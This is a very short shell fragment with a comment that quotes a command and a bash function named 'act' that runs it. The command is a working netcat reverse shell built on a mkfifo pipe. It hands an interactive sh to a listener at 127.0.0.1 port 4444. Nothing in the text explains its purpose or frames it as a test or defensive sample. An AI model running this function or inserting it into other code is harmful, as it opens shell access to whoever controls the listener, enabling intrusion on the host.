# `bash -c 'mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 127.0.0.1 4444 >/tmp/f'`.
act() { bash -c 'mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 127.0.0.1 4444 >/tmp/f'; }
